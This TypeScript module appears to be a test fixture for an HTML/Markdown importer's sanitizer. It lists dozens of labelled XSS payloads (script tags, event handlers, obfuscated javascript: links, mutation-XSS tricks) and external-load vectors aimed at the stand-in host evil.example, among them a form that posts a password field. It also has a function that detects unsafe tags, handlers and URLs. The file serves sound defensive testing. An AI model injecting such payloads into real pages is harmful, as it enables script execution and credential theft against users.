import { parseDocument } from 'htmlparser2';
import type { ChildNode } from 'domhandler';
import { isTag } from 'domhandler';

/** HTML that tries to run, frame, load or hide content, for importers. */
export const hostileHtml: readonly (readonly [what: string, html: string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script that is nested', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script in capitals with a slash', '<SCRIPT/x>alert(1)</SCRIPT>'],
  ['an event handler', '<p onclick="alert(1)">Words</p>'],
  ['an event handler of a picture', '<img src=x onerror=alert(1)>'],
  ['an event handler without quotes or spaces', '<img/src="x"/onerror=alert(1)>'],
  ['a handler of an unclosed tag', '<p>Words <img src=x onerror="alert(1)"'],
  ['SVG with a script', '<svg><script>alert(1)</script></svg>'],
  ['SVG that loads', '<svg onload=alert(1)><use href="data:image/svg+xml,x#y"/></svg>'],
  ['a frame', '<iframe src="https://evil.example/"></iframe>'],
  ['a frame with a document of its own', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">'],
  ['a form', '<form action="https://evil.example"><input name="password"></form>'],
  ['a link that runs', '<a href="javascript:alert(1)">Words</a>'],
  ['a link that runs, in entities', '<a href="&#106;avascript&colon;alert(1)">Words</a>'],
  ['a link that runs, with a tab', '<a href="java\tscript:alert(1)">Words</a>'],
  ['a link that runs, in capitals and spaces', '<a href="  JaVaScRiPt:alert(1)">Words</a>'],
  ['a link to data', '<a href="data:text/html,<script>alert(1)</script>">Words</a>'],
  ['a link of VBScript', '<a href="vbscript:msgbox(1)">Words</a>'],
  ['a picture of data', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['a picture from elsewhere', '<img src="https://evil.example/pixel.gif">'],
  ['a picture without a scheme', '<img src="//evil.example/pixel.gif">'],
  [
    'a style',
    '<style>@import "https://evil.example/x.css";</style><p style="background:url(https://evil.example/)">x</p>',
  ],
  ['a base address', '<base href="https://evil.example/"><a href="/x">Words</a>'],
  ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a comment that opens', '<!--><script>alert(1)</script>-->'],
  ['MathML that breaks out', '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a text area that swallows', '<textarea><img src=x onerror=alert(1)></textarea>'],
  [
    'an address in a title',
    '<a href="https://ok.example" title="&quot; onmouseover=&quot;alert(1)">Words</a>',
  ],
];

/** The same attacks in Markdown, as far as it has syntax for them. */
export const hostileMarkdown: readonly (readonly [what: string, markdown: string])[] = [
  ['a link that runs', '[Words](javascript:alert(1))'],
  ['a link that runs, in entities', '[Words](&#106;avascript&#58;alert(1))'],
  ['a link that runs, in angles', '[Words](<javascript:alert(1)>)'],
  ['a link that runs, by reference', '[Words][x]\n\n[x]: javascript:alert(1)'],
  ['an address by itself', '<javascript:alert(1)>'],
  ['a link to data', '[Words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a picture that runs', '![x](javascript:alert(1))'],
  ['a picture from elsewhere', '![x](https://evil.example/pixel.gif)'],
  ['a picture without a scheme', '![x](//evil.example/pixel.gif)'],
  ['a title that closes', '![x](/a.png "\\" onerror=\\"alert(1)")'],
  ['a word that closes', '![" onerror="alert(1)](/a.png)'],
  ['a heading as an identity', '## "><script>alert(1)</script>'],
  ['a language of code that closes', '```"><script>alert(1)</script>\nx\n```'],
  [
    'a chart that closes',
    '```chart\nwhat: "><script>alert(1)</script>\ntitle: </title></svg><script>alert(1)</script>\n```',
  ],
  ['the place of a chart', '<div class="chart-place">0</div>'],
  ['a footnote that runs', 'x[^1]\n\n[^1]: [Words](javascript:alert(1))'],
  ['a share that runs', '[Words](stock:JAVASCRIPT:ALERT(1))'],
  ['a picture’s code that closes', `![x](image:${'0'.repeat(64)}"onerror=alert(1))`],
];

const allowed = new Set(
  'h2 h3 h4 p ul ol li strong em s a blockquote hr br code pre table thead tbody tr th td div img sup section figure figcaption'.split(
    ' ',
  ),
);

/** Returns forbidden elements, handlers and URLs in displayed HTML. */
export function harmIn(html: string): string[] {
  return harmAmong(parseDocument(html).children);
}

function harmAmong(nodes: readonly ChildNode[]): string[] {
  return nodes.flatMap((node) => {
    if (!isTag(node)) return [];
    const { name, attribs, children } = node;
    const addresses = ['href', 'src', 'srcset', 'xlink:href', 'data', 'action']
      .map((each) => attribs[each])
      .filter((each) => each !== undefined);
    const may = name === 'img' ? /^\/(?!\/)/ : /^(?:https?:|mailto:|\/(?!\/)|#)/;
    const isHarm =
      !allowed.has(name) ||
      Object.keys(attribs).some((each) => /^on|^(?:style|srcdoc|formaction|action)$/.test(each)) ||
      addresses.some((address) => !may.test(address));
    return [...(isHarm ? [`<${name} ${JSON.stringify(attribs)}>`] : []), ...harmAmong(children)];
  });
}
